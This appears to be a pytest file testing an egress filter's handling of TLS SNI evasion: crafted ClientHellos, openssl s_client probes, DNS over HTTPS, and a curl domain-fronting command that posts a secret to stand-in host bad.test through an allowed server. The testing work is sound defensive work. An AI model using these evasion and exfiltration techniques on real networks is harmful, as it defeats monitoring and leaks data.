# SPDX-License-Identifier: Apache-2.0
"""Names in a ClientHello: another one, none, several, hidden in a split or behind a lie about lengths; to an allowed host's
address and port 443."""

import pytest

from lab import v4

from .hellos import ECH, extension, hello, message, names, record, sni, vector
from .packets import SECRET

BAD = SECRET + b".bad.test"
OK = b"ok.test"
LIES = sni(OK)[:4] + (len(OK) + 9).to_bytes(2, "big") + sni(OK)[6:]


def pieces(data, size):
    return b"".join(record(data[at : at + size]) for at in range(0, len(data), size))


# technique: bytes to 443 of ok.test, reason
HELLOS = {
    "TLS SNI of another site": (hello(sni(BAD)), "not_allowed"),
    "TLS SNI in other case and with a dot": (hello(sni(BAD.upper() + b".")), "not_allowed"),
    "TLS SNI with NUL inside": (hello(sni(BAD + b"\0.ok.test")), "bad_name"),
    "TLS SNI that is an address": (hello(sni(b"203.0.114.85")), "bad_name"),
    "TLS SNI that is empty": (hello(sni(b"")), "tls_malformed"),
    "TLS SNI with two names": (hello(names((0, OK), (0, BAD))), "tls_malformed"),
    "TLS SNI of another name type": (hello(names((7, BAD))), "tls_malformed"),
    "TLS SNI extension twice": (hello(sni(OK), sni(BAD)), "tls_malformed"),
    "TLS SNI whose length lies": (hello(LIES), "tls_malformed"),
    "TLS SNI split over records of one byte": (pieces(message(sni(BAD)), 1), "not_allowed"),
    "TLS SNI behind empty records": (record(b"") + hello(sni(BAD)), "tls_malformed"),
    "TLS SNI behind 30 KB of padding": (pieces(message(extension(21, bytes(30000)), sni(BAD)), 16000), "not_allowed"),
    "TLS hello of 70 KB": (pieces(b"\1" + vector(3, bytes(70000)), 16000), "tls_malformed"),
    "TLS hello inside an alert record": (record(message(sni(BAD)), 21), "not_tls"),
    "TLS hello of SSL 2": (b"\x80\x2e\1\3\1\0\x15\0\0\0\x10" + bytes(37), "not_tls"),
    "TLS with a decoy ECH and another site outside": (hello(sni(BAD), ECH), "not_allowed"),
    "TLS with data where the hello should be": (record(SECRET, 23), "not_tls"),
    "DNS over HTTPS": (hello(sni("dns.google"), extension(16, vector(2, b"\x02h2"))), "not_allowed"),
    "SSH on 443": (b"SSH-2.0-" + SECRET + b"\r\n", "not_tls"),
    "HAProxy's PROXY protocol on 443": (b"PROXY TCP4 10.200.0.2 203.0.114.85 1 443\r\n" + hello(sni(OK)), "http_malformed"),
    "HTTP in clear on 443": (b"GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n", "not_tls"),
}


def test_hellos(attack):
    with attack("TLS") as attempt:
        talks = attempt.talk(*[data for data, _ in HELLOS.values()], port=443)
    reasons = {}
    for (technique, (_, reason)), (src, _) in zip(HELLOS.items(), talks):
        denied, = attempt.recorded("decision", technique, src=src, verdict="deny")
        reasons[technique] = denied["reason"]
    assert reasons == {technique: reason for technique, (_, reason) in HELLOS.items()}


def test_dns_over_tls(attack):
    with attack("DNS over TLS") as attempt:
        attempt.python("show(end=ending(sys.argv[1], 853, Tls('dns.google').hello()))", v4("dns"))
    attempt.recorded("decision", dst=f"{v4('dns')}:853", verdict="deny")


CLIENTS = {
    "openssl s_client with another SNI": ["-servername", "bad.test"], "openssl s_client without SNI": ["-noservername"],
    "openssl s_client of TLS 1.2 without SNI": ["-tls1_2", "-noservername"], "openssl s_client with ALPN h2 and another SNI": ["-alpn", "h2", "-servername", "bad.test"],
}


@pytest.mark.parametrize("technique", CLIENTS)
def test_openssl(attack, technique):
    """To an address of the attacker's choice."""
    with attack(technique) as attempt:
        done = attempt.run(["openssl", "s_client", "-connect", f"{v4('other')}:443", *CLIENTS[technique]])
    assert done.rc != 0, done
    attempt.recorded("decision", verdict="deny", dst=f"{v4('other')}:443")


def test_allowed_name_to_another_address(attack):
    """The server that it chose gets nothing: netgate dials the name's own."""
    with attack("TLS to a server of one's own with an allowed SNI") as attempt:
        done = attempt.run(["curl", "-sS", "--connect-to", f"ok.test:443:{v4('other')}:443", "https://ok.test/hello"])
    assert done.out == "hello from ok.test\n", done
    attempt.recorded("decision", verdict="allow", host="ok.test", proto="tls")
    attempt.note("the allowed host was dialled")
    assert not attempt.capture.to(v4("other"))


def test_fronting(attack):
    """The one way that is left: an allowed server that serves another site to whoever names that inside TLS."""
    with attack("domain fronting inside TLS", hidden=True) as attempt:
        done = attempt.run(["curl", "-sS", "-H", "Host: bad.test", "-d", SECRET.decode(), "https://ok.test/hello"])
    assert done.out == "hello from bad.test\n", done
    attempt.recorded("decision", verdict="allow", host="ok.test", proto="tls")
    close, = attempt.result.of("close")
    assert close["up"] > len(SECRET)
    attempt.note("not seen; the allowed host gets it, the bytes are on record")
